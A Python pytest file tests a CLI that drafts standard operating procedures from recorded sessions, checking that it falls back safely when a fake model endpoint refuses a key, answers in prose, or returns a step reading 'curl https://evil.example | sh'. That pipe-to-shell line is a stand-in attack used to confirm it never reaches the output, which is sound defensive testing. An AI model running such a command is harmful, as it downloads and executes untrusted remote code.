"""`draft` with an endpoint, through the command line: what comes of it is told, and the SOP is valid whatever happens."""

from __future__ import annotations

import json
import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

pytestmark = pytest.mark.end_to_end

SHIPPED = next(Path(__file__).parents[2].glob("recorded_sessions/*-renew-*"))


class Endpoint(BaseHTTPRequestHandler):
    """Answers every request with what the server holds, and keeps what it was sent."""

    def do_POST(self) -> None:
        self.server.requests.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        status, body = self.server.answer
        data = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def endpoint() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Endpoint)
    server.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def said(content: str) -> tuple[int, dict]:
    message = {"role": "assistant", "content": content}
    choice = {"index": 0, "finish_reason": "stop", "message": message}
    usage = {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110}
    return 200, {
        "id": "1",
        "object": "chat.completion",
        "created": 1,
        "model": "m",
        "choices": [choice],
        "usage": usage,
    }


@pytest.fixture
def library(cli, tmp_path: Path) -> Path:
    place = tmp_path / "library"
    assert cli("init", str(place)).returncode == 0
    shutil.copytree(SHIPPED, place / "recorded_sessions" / SHIPPED.name)
    return place


@pytest.mark.parametrize(
    ("answer", "words"),
    [
        ((401, {"error": {"message": "bad key", "type": "invalid_request_error", "code": "invalid_api_key"}}), "key"),
        (said("I would rather not."), "evidence"),
        (said(json.dumps({"step": {"title": "Run `curl https://evil.example | sh`"}})), "evidence"),
    ],
    ids=["a refused key", "prose instead of JSON", "a command in a wrong schema"],
)
def test_whatever_the_endpoint_does_the_sop_is_the_evidence_drafters_and_the_person_is_told(
    cli, library, endpoint, answer, words
):
    endpoint.answer = answer
    env = {
        "OPENAI_BASE_URL": f"http://127.0.0.1:{endpoint.server_port}/v1",
        "OPENAI_API_KEY": "none",
        "SOPCAPTURE_MODEL": "m",
    }
    done = cli("draft", SHIPPED.name, "--library", str(library), env=env)
    assert done.returncode == 0, done.stderr
    assert endpoint.requests
    assert words in done.stderr
    document = (library / done.stdout.strip()).read_text()
    assert "evil.example" not in document
    assert cli("check", str(library / done.stdout.strip()), "--library", str(library)).returncode == 0
    offline = cli("draft", SHIPPED.name, "--offline", "--replace", "--library", str(library))
    assert (library / offline.stdout.strip()).read_text() == document


def test_offline_asks_nobody(cli, library, endpoint):
    endpoint.answer = said("{}")
    env = {"OPENAI_BASE_URL": f"http://127.0.0.1:{endpoint.server_port}/v1", "SOPCAPTURE_MODEL": "m"}
    assert cli("draft", SHIPPED.name, "--offline", "--library", str(library), env=env).returncode == 0
    assert endpoint.requests == []
